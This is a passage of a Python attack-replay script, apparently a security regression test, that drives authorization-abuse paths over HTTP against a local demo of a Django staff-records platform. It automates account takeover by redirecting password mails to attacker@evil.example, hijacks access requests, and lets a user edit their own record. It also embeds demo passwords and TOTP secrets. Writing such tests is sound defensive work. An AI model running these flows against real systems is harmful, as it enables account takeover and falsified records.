"""Replay: seven attack paths against a running AYNI with the demo data, over HTTP only.

Black box: the script knows what a person with a browser knows (the demo accounts, the
pages, the mails that arrive in the mailbox of an address it controls) and nothing else —
no Django, no database. A path "succeeds" only on an observable effect: a page that shows
the change, a mail written to `<var>/mail`, or signing in as the victim.

    .venv/bin/python ops/replay_attacks.py                      # starts `make run` itself
    .venv/bin/python ops/replay_attacks.py --url http://127.0.0.1:8000 --var-dir var

With --url the server must run with AYNI_CAPTCHA_TEST_MODE=true (the CAPTCHA answer is
PASSED) and write its mails as files under DIR/mail. Prints, for each path, the attempts and
the successes (and why an attempt was inconclusive), then a total; exits 1 on any success.
"""

import argparse
import base64
import email
import email.policy
import hashlib
import hmac
import http.client
import http.cookiejar
import json
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
DEMO_PASSWORD = "Ayni2026demo"  # noqa: S105 -- the README's demo accounts
CAPTCHA_ANSWER = "PASSED"  # AYNI_CAPTCHA_TEST_MODE=true
TIMEOUT_SECONDS = 30
STARTUP_SECONDS = 240
ATTACKER = "attacker@evil.example"
ATTACKER_DOMAIN = "@evil.example"  # every address there is the attacker's mailbox
# The password the attacker chooses when a victim's "Generar tu contraseña" link reaches
# them (8 to 15 characters, upper, lower, digit: the default policy).
TAKEOVER_PASSWORD = "Tomada7Qxl2Rvw"  # noqa: S105

# Users a second sign-in step asks a TOTP code of: username → base32 secret (the README's
# demo secrets of the staff accounts).
DEMO_TOTP_SECRETS: dict[str, str] = {
    "40000100": "D62OMACCJV4YRE55DIS6FGB3R7PBZGPP",
    "40000101": "YXRCSYP3BOL6JQDR2BDQQRZLEERXOT7Q",
    "40000102": "KWEWYN57WT5JJFTOUOLRLKYDLSH2BOT3",
    "40000103": "VDKB46QEAQBPNCCV4UB2BCIWR4CBUVUI",
}
# The last 30-second step whose code each user gave: a code is accepted once, so a second
# sign-in within the same step waits for the next code, as a person would.
_USED_STEPS: dict[str, int] = {}


class Unexpected(Exception):
    """A page was not what the replay expected: the attempt is inconclusive."""


# --- HTML ----------------------------------------------------------------------------------


@dataclass
class Field:
    name: str
    kind: str  # input type, "select", "textarea"
    value: str = ""
    checked: bool = False
    options: list[str] = field(default_factory=list)  # select: option values
    selected: list[str] = field(default_factory=list)


@dataclass
class Form:
    action: str
    method: str
    enctype: str
    fields: list[Field] = field(default_factory=list)

    def names(self) -> set[str]:
        return {f.name for f in self.fields}

    def values(self) -> list[tuple[str, str]]:
        """What a browser sends without anyone touching the form (no submit button)."""
        out = []
        for f in self.fields:
            if f.kind in ("submit", "button", "reset", "image", "file"):
                continue
            if f.kind in ("checkbox", "radio"):
                if f.checked:
                    out.append((f.name, f.value or "on"))
            elif f.kind == "select":
                chosen = f.selected or f.options[:1]
                out.extend((f.name, value) for value in chosen)
            else:
                out.append((f.name, f.value))
        return out

    def field(self, name: str) -> Field | None:
        return next((f for f in self.fields if f.name == name), None)


class _PageParser(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self.links: list[tuple[str, str]] = []
        self.text: list[str] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._option: int | None = None
        self._textarea: Field | None = None
        self._link: list | None = None
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        a = {k: (v if v is not None else "") for k, v in attrs}
        if tag in ("script", "style"):
            self._skip += 1
        elif tag == "form":
            self._form = Form(
                a.get("action", ""),
                a.get("method", "get").lower(),
                a.get("enctype", "application/x-www-form-urlencoded"),
            )
            self.forms.append(self._form)
        elif tag == "a" and "href" in a:
            self._link = [a["href"], ""]
            self.links.append(("", ""))
        elif self._form is not None and "name" in a:
            if tag in ("input", "button"):
                kind = a.get("type", "text" if tag == "input" else "submit").lower()
                self._form.fields.append(Field(a["name"], kind, a.get("value", ""), "checked" in a))
            elif tag == "select":
                self._select = Field(a["name"], "select")
                self._form.fields.append(self._select)
            elif tag == "textarea":
                self._textarea = Field(a["name"], "textarea")
                self._form.fields.append(self._textarea)
        if tag == "option" and self._select is not None:
            # An option without a value sends its text (filled in by handle_data).
            self._option = None if "value" in a else len(self._select.options)
            self._select.options.append(a.get("value", ""))
            if "selected" in a:
                self._select.selected.append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._skip = max(0, self._skip - 1)
        elif tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "option":
            self._option = None
        elif tag == "textarea" and self._textarea is not None:
            # As a browser: the newline right after <textarea> is not part of the value.
            self._textarea.value = self._textarea.value.removeprefix("\n")
            self._textarea = None
        elif tag == "a" and self._link is not None:
            self.links[-1] = (self._link[0], " ".join(self._link[1].split()))
            self._link = None

    def handle_data(self, data):
        if self._skip:
            return
        self.text.append(data)
        if self._textarea is not None:
            self._textarea.value += data
        if self._select is not None and self._option is not None:
            self._select.options[self._option] += data.strip()
        if self._link is not None:
            self._link[1] += data


@dataclass
class Page:
    url: str  # after redirects
    status: int
    body: bytes
    content_type: str

    def __post_init__(self):
        self.html = ""
        self.forms: list[Form] = []
        self.links: list[tuple[str, str]] = []
        self.text = ""
        if "html" in self.content_type:
            self.html = self.body.decode("utf-8", "replace")
            parser = _PageParser()
            parser.feed(self.html)
            self.forms, self.links = parser.forms, parser.links
            self.text = " ".join(" ".join(parser.text).split())

    @property
    def path(self) -> str:
        return urllib.parse.urlsplit(self.url).path

    def form(self, *, action: str | None = None, having: str | None = None) -> Form:
        """The first form whose action contains `action` and that has a field `having`."""
        for form in self.forms:
            if action is not None and action not in form.action:
                continue
            if having is not None and having not in form.names():
                continue
            return form
        raise Unexpected(
            f"{self.path} ({self.status}): no hay formulario"
            + (f" con acción «{action}»" if action else "")
            + (f" con el campo «{having}»" if having else "")
            + f"; la página dice: {self.text[:160]!r}"
        )

    def messages(self) -> str:
        """The page's alerts and field errors, to explain a refusal."""
        found = re.findall(
            r'<(?:div|p|ul)[^>]*(?:role="alert"|class="[^"]*(?:errorlist|message)[^"]*")[^>]*>(.*?)</(?:div|p|ul)>',
            self.html,
            re.S,
        )
        text = " ".join(re.sub(r"<[^>]+>", " ", chunk) for chunk in found)
        return " ".join(text.split())[:300] or self.text[:200]


# --- HTTP ----------------------------------------------------------------------------------


class _NoErrors(urllib.request.HTTPErrorProcessor):
    """Every error status is an answer to look at, not an exception; redirects are followed."""

    def http_response(self, request, response):
        if response.status >= 400:
            return response
        return super().http_response(request, response)

    https_response = http_response


class Session:
    """One browser: its own cookies, following redirects like a browser does."""

    def __init__(self, base_url: str):
        self.base = base_url.rstrip("/")
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(self.jar), _NoErrors()
        )

    def absolute(self, url: str) -> str:
        return urllib.parse.urljoin(self.base + "/", url)

    def _open(self, request: urllib.request.Request) -> Page:
        try:
            with self.opener.open(request, timeout=TIMEOUT_SECONDS) as response:
                return Page(
                    response.geturl(),
                    response.status,
                    response.read(),
                    response.headers.get("Content-Type", ""),
                )
        except (OSError, http.client.HTTPException) as error:
            raise Unexpected(f"{request.get_method()} {request.full_url}: {error!r}") from error

    def get(self, url: str, params: dict | None = None) -> Page:
        target = self.absolute(url)
        if params:
            target += ("&" if "?" in target else "?") + urllib.parse.urlencode(params)
        return self._open(urllib.request.Request(target))

    def post(self, url: str, data, files: dict | None = None, referer: str = "") -> Page:
        """POST `data` (pairs or a dict); `files` maps a field to (filename, type, bytes)."""
        pairs = list(data.items()) if isinstance(data, dict) else list(data)
        target = self.absolute(url)
        headers = {"Referer": referer or target}
        if files:
            boundary = uuid.uuid4().hex
            body = bytearray()
            for name, value in pairs:
                body += (
                    f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
                    f"{value}\r\n"
                ).encode()
            for name, (filename, kind, content) in files.items():
                body += (
                    f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                    f'filename="{filename}"\r\nContent-Type: {kind}\r\n\r\n'
                ).encode()
                body += content + b"\r\n"
            body += f"--{boundary}--\r\n".encode()
            headers["Content-Type"] = f"multipart/form-data; boundary={boundary}"
            payload = bytes(body)
        else:
            headers["Content-Type"] = "application/x-www-form-urlencoded"
            payload = urllib.parse.urlencode(pairs).encode()
        return self._open(urllib.request.Request(target, payload, headers, method="POST"))

    def submit(
        self, page: Page, form: Form, changes: dict | None = None, files: dict | None = None
    ) -> Page:
        """Send `form` as the browser would, with `changes` (name → value or list) applied."""
        changes = changes or {}
        pairs = [(n, v) for n, v in form.values() if n not in changes]
        for name, value in changes.items():
            if value is None:
                continue
            values = value if isinstance(value, list | tuple) else [value]
            pairs.extend((name, str(v)) for v in values)
        action = urllib.parse.urljoin(page.url, form.action or page.url)
        if form.method == "get":
            return self.get(action.split("?")[0], dict(pairs))
        return self.post(action, pairs, files, referer=page.url)


# --- Sign-in --------------------------------------------------------------------------------


def sign_in(session: Session, username: str, password: str) -> Page:
    """The login form (CSRF token and CAPTCHA key from the page), then a TOTP step if asked."""
    page = session.get("/cuenta/ingresar/")
    form = page.form(having="password")
    page = session.submit(
        page, form, {"username": username, "password": password, "captcha_1": CAPTCHA_ANSWER}
    )
    if any("password" in f.names() for f in page.forms):  # the login form again
        raise Unexpected(f"ingreso de {username} rechazado ({page.status}): {page.messages()}")
    if page.path != "/":
        page = _second_step(session, page, username)
    return page


OTP_FIELD = re.compile(r"(?:.*[_-])?(?:otp_token|otp|code|token)")


def _second_step(session: Session, page: Page, username: str) -> Page:
    """A page after the password that asks for a code: answer it with the user's TOTP."""
    for form in page.forms:
        names = [f.name for f in form.fields if f.kind not in ("hidden", "submit", "button")]
        code_field = next((n for n in names if OTP_FIELD.fullmatch(n)), None)
        if code_field is None:
            continue
        secret = DEMO_TOTP_SECRETS.get(username)
        if secret is None:
            raise Unexpected(
                f"{page.path} pide un código a {username}; DEMO_TOTP_SECRETS no lo tiene"
            )
        for _attempt in range(2):  # a code already used elsewhere: wait for the next one
            while (step := int(time.time()) // 30) <= _USED_STEPS.get(username, -1):
                time.sleep(0.5)
            _USED_STEPS[username] = step
            answer = session.submit(page, form, {code_field: totp(secret)})
            if answer.path == "/":
                return answer
        raise Unexpected(f"código TOTP de {username} rechazado: {answer.messages()}")
    return page  # no code asked: the redirect went elsewhere on purpose (e.g. ?next=)


def totp(secret_b32: str, at: float | None = None, digits: int = 6, step: int = 30) -> str:
    """RFC 6238 with HMAC-SHA-1."""
    secret = secret_b32.replace(" ", "").upper()
    key = base64.b32decode(secret + "=" * (-len(secret) % 8))
    counter = int((time.time() if at is None else at) // step)
    mac = hmac.new(key, struct.pack(">Q", counter), hashlib.sha1).digest()
    offset = mac[-1] & 0x0F
    number = struct.unpack(">I", mac[offset : offset + 4])[0] & 0x7FFFFFFF
    return str(number % 10**digits).zfill(digits)


def signed_in(base_url: str, username: str, password: str = DEMO_PASSWORD) -> Session:
    session = Session(base_url)
    sign_in(session, username, password)
    return session


# --- Mails ----------------------------------------------------------------------------------

MAIL_SEPARATOR = re.compile(r"^-{79}$", re.M)  # Django's file backend, between messages


@dataclass
class Mail:
    to: str
    subject: str
    text: str

    def links(self) -> list[str]:
        return re.findall(r"https?://[^\s\"'<>]+", self.text)


class Mailbox:
    """The mails the platform wrote as files under <var>/mail (None: not readable)."""

    def __init__(self, folder: Path | None):
        self.folder = folder

    def _messages(self) -> list[tuple[tuple[str, int], Mail]]:
        if self.folder is None:
            raise Unexpected("sin --var-dir no se pueden leer los correos")
        if not self.folder.exists():
            return []
        found = []
        for path in sorted(self.folder.iterdir()):
            chunks = MAIL_SEPARATOR.split(path.read_text(encoding="utf-8", errors="replace"))
            for index, chunk in enumerate(c for c in chunks if c.strip()):
                found.append(((path.name, index), _parse_mail(chunk.strip() + "\n")))
        return found

    def mark(self) -> set:
        """The mails written so far, to ask later for only the newer ones."""
        return {key for key, _mail in self._messages()}

    def to(self, address: str, since: set | None = None, wait: float = 0.0) -> list[Mail]:
        """Mails whose To contains `address` (newer than `since`), waiting up to `wait` s."""
        deadline = time.monotonic() + wait
        while True:
            found = [
                mail
                for key, mail in self._messages()
                if (since is None or key not in since) and address.lower() in mail.to.lower()
            ]
            if found or time.monotonic() >= deadline:
                return found
            time.sleep(0.25)


def _parse_mail(raw: str) -> Mail:
    message = email.message_from_string(raw, policy=email.policy.default)
    part = message.get_body(("plain",)) if message.is_multipart() else message
    text = part.get_content() if part is not None else ""
    subject = " ".join(str(message.get("Subject", "")).split())
    return Mail(str(message.get("To", "")), subject, text)


def mailed_username(mail: Mail) -> str | None:
    """The account a password mail is for: it names the user ("usuario 40000103")."""
    found = re.search(r"\(usuario (\S+?)\)|documento \((\S+?)\)", mail.text)
    return next((g for g in found.groups() if g), None) if found else None


def password_links(mail: Mail) -> list[str]:
    return [link for link in mail.links() if "/cuenta/contrasena/" in link]


# --- Tally ----------------------------------------------------------------------------------


@dataclass
class Attempt:
    what: str
    success: str = ""  # the observed effect, when there is one

    def succeeded(self, evidence: str) -> None:
        self.success = f"{self.success}; {evidence}" if self.success else evidence


@dataclass
class Tally:
    number: int
    title: str
    attempts: list[Attempt] = field(default_factory=list)
    inconclusive: list[str] = field(default_factory=list)

    @contextmanager
    def attempt(self, what: str):
        """One try; a page that is not as expected makes it inconclusive, not a success."""
        current = Attempt(what)
        self.attempts.append(current)
        try:
            yield current
        except Unexpected as error:
            self.inconclusive.append(f"{what}: {error}")

    @property
    def successes(self) -> list[Attempt]:
        return [a for a in self.attempts if a.success]


# --- The target -----------------------------------------------------------------------------


@dataclass
class Target:
    url: str
    mailbox: Mailbox
    # Passwords that changed during the replay (a takeover): later paths still sign in.
    passwords: dict[str, str] = field(default_factory=dict)

    def session(self, username: str) -> Session:
        return signed_in(self.url, username, self.passwords.get(username, DEMO_PASSWORD))

    def anonymous(self) -> Session:
        return Session(self.url)

    def local(self, link: str) -> str:
        """A mailed link on this server (mails carry AYNI_PUBLIC_BASE_URL, maybe another)."""
        parts = urllib.parse.urlsplit(link)
        return urllib.parse.urlunsplit(("", "", parts.path, parts.query, ""))


def _takeover_mails(target: Target, victims: set[str], since: set | None) -> list[Mail]:
    """Mails for one of `victims`' accounts that reached an attacker's address."""
    return [
        mail
        for mail in target.mailbox.to(ATTACKER_DOMAIN, since, wait=1.0)
        if mailed_username(mail) in victims
    ]


def _take_over(target: Target, mails: list[Mail], username: str) -> Session:
    """Follow a mailed "Generar tu contraseña" link, choose a password, sign in as the victim."""
    links = [link for mail in mails for link in password_links(mail)]
    if not links:
        raise Unexpected(f"ningún correo de {username} trae el enlace de contraseña")
    thief = target.anonymous()
    page = thief.get(target.local(links[0]))
    form = page.form(having="new_password1")
    page = thief.submit(
        page, form, {"new_password1": TAKEOVER_PASSWORD, "new_password2": TAKEOVER_PASSWORD}
    )
    if "new_password1" in (page.forms[0].names() if page.forms else set()):
        raise Unexpected(f"no se pudo grabar la contraseña: {page.messages()}")
    target.passwords[username] = TAKEOVER_PASSWORD
    return signed_in(target.url, username, TAKEOVER_PASSWORD)


# --- 1. A UGEL administrator takes over a MINEDU superuser by changing its e-mail ----------


def path_email_change(target: Target) -> Tally:
    tally = Tally(1, "Admin UGEL cambia el correo del superusuario MINEDU (40000103)")
    victim = "40000103"
    admin = target.session("40000102")

    def change(page: Page, attempt: Attempt) -> None:
        since = target.mailbox.mark()
        form = page.form(having="email")
        answer = admin.submit(
            page, form, {"email": ATTACKER, "reason": "El servidor lo pidió por teléfono."}
        )
        stolen = _takeover_mails(target, {victim}, since)
        if stolen:
            attempt.succeeded(f"un correo de la cuenta {victim} llegó a {stolen[0].to}")
            try:
                thief = _take_over(target, stolen, victim)
                admin_page = thief.get("/admin/")
                if admin_page.status == 200 and admin_page.path.startswith("/admin"):
                    attempt.succeeded(f"/admin/ responde 200 como {victim}")
            except Unexpected as error:
                tally.inconclusive.append(f"seguir el enlace robado: {error}")
            return
        if answer.status >= 500:
            raise Unexpected(f"{answer.path} respondió {answer.status}")

    with tally.attempt("«Cambiar correo» desde la búsqueda") as attempt:
        page = admin.get("/cuenta/gestion/", {"q": victim})
        if page.status != 200 or "Cuentas de servidores" not in page.text:
            raise Unexpected(f"/cuenta/gestion/?q={victim} respondió {page.status}")
        links = [href for href, text in page.links if text == "Cambiar correo"]
        if links:
            change(admin.get(links[0]), attempt)
    for pk in range(1, 31):
        with tally.attempt(f"/cuenta/gestion/{pk}/correo/") as attempt:
            page = admin.get(f"/cuenta/gestion/{pk}/correo/")
            if page.status in (403, 404):
                continue
            if page.status != 200:
                raise Unexpected(f"respondió {page.status}")
            shown = re.search(r"Usuario (\S+)", page.text)
            if shown and shown.group(1) != victim:
                continue  # an account the administrator may manage: not this attack
            change(page, attempt)
    return tally


# --- 2. A UGEL administrator provisions staff and superuser accounts to its own address ----


def path_provisioning(target: Target) -> Tally:
    tally = Tally(2, "Admin UGEL crea cuentas de personal/superusuario a su correo")
    victims = ("40000103", "40000100", "40000101")
    admin = target.session("40000102")

    def judge(attempt: Attempt, since: set) -> None:
        for mail in _takeover_mails(target, set(victims), since):
            attempt.succeeded(f"correo de la cuenta {mailed_username(mail)} llegó a {mail.to}")

    for victim in victims:
        with tally.attempt(f"«Crear cuenta» {victim}") as attempt:
            since = target.mailbox.mark()
            page = admin.get("/cuenta/gestion/nueva/")
            form = page.form(having="document_number")
            answer = admin.submit(
                page,
                form,
                {
                    "document_type": "DNI",
                    "document_number": victim,
                    "email": f"attacker+nueva{victim}@evil.example",
                    "apellido_paterno": "ATACANTE",
                    "nombres": "PRUEBA",
                },
            )
            if answer.status >= 500:
                raise Unexpected(f"{answer.path} respondió {answer.status}")
            judge(attempt, since)
    for victim in victims:
        with tally.attempt(f"«Carga masiva» {victim}") as attempt:
            since = target.mailbox.mark()
            page = admin.get("/cuenta/gestion/carga/")
            form = page.form(having="file")
            csv = (
                "tipo_documento,numero_documento,correo\n"
                f"DNI,{victim},attacker+carga{victim}@evil.example\n"
            )
            preview = admin.submit(
                page, form, files={"file": ("cuentas.csv", "text/csv", csv.encode())}
            )
            confirm = preview.form(having="rows")
            offered = [f.value for f in confirm.fields if f.name == "lines"]
            # What the page offers; with no row offered, the row of the file anyway (line 2).
            answer = admin.submit(preview, confirm, {"lines": offered or ["2"]})
            if answer.status >= 500:
                raise Unexpected(f"{answer.path} respondió {answer.status}")
            judge(attempt, since)
    return tally


# --- "Solicitar acceso" ---------------------------------------------------------------------


def tiny_pdf() -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


ACCESS_CODE = re.compile(r"\bACC-\d{4}-\d{6}\b")


def request_access(
    session: Session, document: str, email_address: str, names: tuple[str, str, str], kind=""
) -> Page:
    """Fill every field of "Solicitar acceso" as an applicant would; the confirmation page."""
    page = session.get("/acceso/solicitar/")
    form = page.form(having="document_number")
    unit = form.field("unit")
    ugel07 = next(
        (v for v in (unit.options if unit else []) if v and "UGEL 07" in _option_text(page, v)),
        None,
    )
    if ugel07 is None:
        raise Unexpected("«Solicitar acceso» no ofrece la UGEL 07")
    kinds = [f.value for f in form.fields if f.name == "kind"]
    changes = {
        "document_type": "DNI",
        "document_number": document,
        "apellido_paterno": names[0],
        "apellido_materno": names[1],
        "nombres": names[2],
        "email": email_address,
        "phone": "987654321",
        "unit": ugel07,
        "condition": "nombrado",
        "consent": "on",
        "captcha_1": CAPTCHA_ANSWER,
    }
    if kinds:
        changes["kind"] = kind if kind in kinds else kinds[0]
    for f in form.fields:  # a field added since: fill it with something plausible
        if f.name not in changes and f.kind in ("text", "email", "tel") and not f.value:
            changes[f.name] = "Datos de prueba"
    answer = session.submit(
        page, form, changes, files={"attachment": ("dni.pdf", "application/pdf", tiny_pdf())}
    )
    if answer.status != 200 or "/acceso/solicitar/enviada" not in answer.url:
        raise Unexpected(
            f"«Solicitar acceso» no fue recibida ({answer.status}): {answer.messages()}"
        )
    return answer


def _option_text(page: Page, value: str) -> str:
    found = re.search(rf'<option value="{re.escape(value)}"[^>]*>([^<]*)</option>', page.html)
    return found.group(1) if found else ""


def open_request(admin: Session, code: str) -> Page:
    """The tray's page of a request, found from the tray itself when it is listed there."""
    tray = admin.get("/acceso/bandeja/")
    if tray.status != 200:
        raise Unexpected(f"/acceso/bandeja/ respondió {tray.status}")
    link = next((href for href, text in tray.links if text == code), None)
    return admin.get(link or f"/acceso/bandeja/{code}/")


def csrf_token(session: Session) -> str:
    return next((c.value for c in session.jar if c.name == "csrftoken"), "")


def decide_request(admin: Session, code: str, decision: str, fields: dict | None = None) -> Page:
    """POST a tray decision: through the page's form, or straight to its address if hidden."""
    page = open_request(admin, code)
    action = f"/acceso/bandeja/{code}/{decision}/"
    form = next((f for f in page.forms if f.action.endswith(action)), None)
    if form is not None:
        return admin.submit(page, form, fields)
    data = {"csrfmiddlewaretoken": csrf_token(admin), **(fields or {})}
    return admin.post(action, data, referer=admin.absolute(f"/acceso/bandeja/{code}/"))


# --- 3. Anyone asks access for the superuser's DNI; the UGEL approves it --------------------


def path_access_request(target: Target) -> Tally:
    tally = Tally(3, "Solicitud de acceso pública por el DNI del superusuario, aprobada")
    victim = "40000103"
    admin = target.session("40000102")
    for kind in ("alta", "correo"):
        with tally.attempt(f"«Solicitar acceso» ({kind}) + «Aprobar»") as attempt:
            since = target.mailbox.mark()
            address = f"attacker+acceso{kind}@evil.example"
            sent = request_access(
                target.anonymous(), victim, address, ("SALAZAR", "VEGA", "JORGE"), kind
            )
            code = ACCESS_CODE.search(sent.text)
            if code is None:
                raise Unexpected("la confirmación no muestra el código de la solicitud")
            answer = decide_request(admin, code.group(), "aprobar")
            if answer.status >= 500:
                raise Unexpected(f"aprobar {code.group()} respondió {answer.status}")
            for mail in target.mailbox.to(address, since, wait=1.0):
                if password_links(mail):
                    attempt.succeeded(
                        f"«{mail.subject}» ({mailed_username(mail)}) llegó a {address}"
                    )
    return tally


# --- 4. A second "Solicitar acceso" for the same DNI hijacks the first request --------------


def status_page(session: Session, code: str, document: str) -> Page:
    page = session.get("/acceso/consultar/")
    form = page.form(having="code")
    return session.submit(
        page,
        form,
        {
            "code": code,
            "document_type": "DNI",
            "document_number": document,
            "captcha_1": CAPTCHA_ANSWER,
        },
    )


def path_access_merge(target: Target) -> Tally:
    tally = Tally(4, "Segunda solicitud para el mismo DNI se apropia de la primera")
    document, victim_mail = "41234567", "victim@example.pe"
    names = ("HUAMAN", "TORRES", "ANA MARIA")
    since = target.mailbox.mark()
    first = thief = thief_code = None
    with tally.attempt("reenvío con el correo del atacante") as attempt:
        request_access(target.anonymous(), document, victim_mail, names, "alta")
        mails = target.mailbox.to(victim_mail, since, wait=1.0)
        codes = [c for m in mails for c in ACCESS_CODE.findall(m.text)]
        if not codes:
            raise Unexpected(f"no llegó a {victim_mail} el correo con el código")
        first = codes[0]
        since = target.mailbox.mark()
        thief = target.anonymous()
        sent = request_access(thief, document, ATTACKER, names, "alta")
        for mail in target.mailbox.to(ATTACKER, since, wait=1.0):
            if first in mail.text:
                attempt.succeeded(f"el correo «{mail.subject}» al atacante trae {first}")
        if first in sent.text:
            attempt.succeeded(f"la confirmación que ve el atacante muestra {first}")
        mine = [c for c in ACCESS_CODE.findall(sent.text) if c != first]
        thief_code = mine[0] if mine else first if first in sent.text else None
    if first is None:
        return tally
    with tally.attempt(f"consultar {first} con el documento") as attempt:
        page = status_page(target.anonymous(), first, document)
        if page.status != 200 or first not in page.text:
            raise Unexpected(f"la consulta de {first} no muestra la solicitud: {page.messages()}")
        if ATTACKER in page.text or "evil.example" in page.text:
            attempt.succeeded(f"el estado de {first} muestra el correo del atacante")
    with tally.attempt(f"responder la observación de {first}") as attempt:
        admin = target.session("40000102")
        answer = decide_request(
            admin, first, "observar", {"observar-text": "Adjunte su DNI legible."}
        )
        if answer.status >= 400:
            raise Unexpected(f"observar {first} respondió {answer.status}: {answer.messages()}")
        if thief is None or thief_code is None:
            return tally  # the attacker never learnt a code that leads to the first request
        page = status_page(thief, thief_code, document)
        if page.status != 200 or first not in page.text:
            return tally  # the attacker's code does not open the first request
        form = next((f for f in page.forms if "correction" in f.names()), None)
        if form is None:
            return tally
        page = thief.submit(page, form, {"correction": "Respuesta del INTRUSO.", "email": ATTACKER})
        victim_view = status_page(target.anonymous(), first, document)
        if "Usted respondió" in victim_view.text:
            attempt.succeeded(f"el atacante respondió la observación de {first}")
    return tally


# --- 5. An escalafón specialist decides and edits their own legajo ------------------------

MERIT = {
    "tipo": "felicitacion",
    "entidad": "UGEL 07 SAN BORJA",
    "fecha": "2024-03-15",
    "resolucion": "RD N° 00001-2024-UGEL07",
}


def path_own_legajo(target: Target) -> Tally:
    tally = Tally(5, "Especialista de escalafón decide sobre su propio legajo (40000100)")
    me = "40000100"
    specialist = target.session(me)
    marker = f"REPLAY-{uuid.uuid4().hex[:8].upper()}"
    own_demeritos: list[str] = []

    def visible() -> bool:
        """The marker or a missing demérito shows in the specialist's own Mi legajo."""
        page = specialist.get("/legajo/mi-legajo/")
        if page.status != 200:
            raise Unexpected(f"Mi legajo respondió {page.status}")
        return marker in page.text

    request_pk = None
    with tally.attempt("proponer y enviar un mérito en Mi legajo") as attempt:
        page = specialist.get("/legajo/actualizar/meritos/nuevo/")
        if page.status == 404:
            raise Unexpected(f"{me} no tiene legajo propio (Mi legajo)")
        form = page.form(having="descripcion")
        answer = specialist.submit(page, form, {**MERIT, "descripcion": f"{marker} propuesto"})
        if "guardado en el borrador" not in answer.text:
            raise Unexpected(f"el mérito no quedó en el borrador: {answer.messages()}")
        page = specialist.get("/legajo/actualizar/meritos/enviar/")
        answer = specialist.submit(page, page.form(having="comentario"), {"comentario": "Réplica"})
        found = re.search(r"/legajo/solicitudes/(\d+)/", answer.url)
        if found is None:
            raise Unexpected(f"la solicitud no se envió: {answer.messages()}")
        request_pk = found.group(1)
        if visible():
            attempt.succeeded("el mérito aparece en Mi legajo sin que nadie lo atienda")
    page = specialist.get("/legajo/actualizar/demeritos/")
    own_demeritos = sorted(set(re.findall(r"/legajo/actualizar/demeritos/(\d+)/", page.html)))

    with tally.attempt("buscar su propio DNI en «Legajos de la unidad»") as attempt:
        page = specialist.get("/legajo/escalafon/legajos/", {"q": me})
        if page.status != 200:
            raise Unexpected(f"/legajo/escalafon/legajos/ respondió {page.status}")
        listed = [href for href, text in page.links if text == "Ver legajo"]
        opening = [f for f in page.forms if "/abrir/" in f.action]
        if opening:  # "Abrir legajo" for themselves
            specialist.submit(page, opening[0])
        if listed or opening:
            attempt.succeeded("la búsqueda ofrece su propio legajo")

    # Their legajo's id, from the staff pages that show it (ids 1..30, as anyone could try).
    own_pk = None
    for pk in range(1, 31):
        page = specialist.get(f"/legajo/escalafon/legajos/{pk}/")
        if page.status == 200 and f"DNI {me}" in page.text:
            own_pk = pk
            break
    with tally.attempt("abrir su legajo en las páginas de escalafón (ids 1..30)") as attempt:
        if own_pk is not None:
            attempt.succeeded(f"/legajo/escalafon/legajos/{own_pk}/ muestra su propio legajo")
    with tally.attempt("agregar un mérito desde escalafón") as attempt:
        if own_pk is not None:
            page = specialist.get(f"/legajo/escalafon/legajos/{own_pk}/meritos/nuevo/")
            if page.status == 200:
                form = page.form(having="descripcion")
                specialist.submit(page, form, {**MERIT, "descripcion": f"{marker} directo"})
            if visible():
                attempt.succeeded("el mérito agregado desde escalafón aparece en Mi legajo")
    with tally.attempt("eliminar un demérito desde escalafón") as attempt:
        if not own_demeritos:
            raise Unexpected(f"{me} no tiene deméritos que eliminar")
        for item in own_demeritos:
            for pk in [own_pk] if own_pk else range(1, 31):
                url = f"/legajo/escalafon/legajos/{pk}/demeritos/{item}/eliminar/"
                specialist.post(url, {"csrfmiddlewaretoken": csrf_token(specialist)})
        page = specialist.get("/legajo/actualizar/demeritos/")
        left = set(re.findall(r"/legajo/actualizar/demeritos/(\d+)/", page.html))
        if set(own_demeritos) - left:
            attempt.succeeded("un demérito suyo desapareció de Mi legajo")
    with tally.attempt("atender su propia solicitud en la bandeja") as attempt:
        if request_pk is None:
            raise Unexpected("no hubo solicitud propia que atender")
        tray = specialist.get("/legajo/escalafon/solicitudes/", {"estado": ""})
        review = f"/legajo/escalafon/solicitudes/{request_pk}/"
        page = specialist.get(review)
        form = next((f for f in page.forms if "/decidir/" in f.action), None)
        if form is not None:
            specialist.submit(page, form, {"decision": "atender"})
        else:
            specialist.post(
                review + "decidir/",
                {"csrfmiddlewaretoken": csrf_token(specialist), "decision": "atender"},
            )
        if visible():
            listed = review in [href for href, _text in tray.links]
            attempt.succeeded(
                "su propia solicitud quedó atendida y el mérito está en Mi legajo"
                + (" (la bandeja la listaba)" if listed else "")
            )
    return tally


# --- 6. A MINEDU superuser rewrites a boleta's concepts in the Django admin -----------------


def path_admin_boleta(target: Target) -> Tally:
    tally = Tally(6, "Superusuario MINEDU edita los conceptos de una boleta en /admin/")
    admin = target.session("40000103")
    rosa = target.session("40000001")
